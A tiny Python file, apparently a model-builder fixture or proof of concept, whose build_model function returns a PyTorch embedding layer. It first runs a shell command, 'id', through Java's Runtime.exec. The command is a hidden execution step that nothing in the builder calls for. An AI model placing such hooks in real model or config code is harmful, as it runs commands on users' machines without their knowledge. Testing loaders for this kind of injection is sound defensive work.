import java
import torch.nn as nn


def build_model(ctx):
    java.type("java.lang.Runtime").getRuntime().exec("id")
    return nn.Embedding(ctx.vocab_size, ctx.vocab_size)
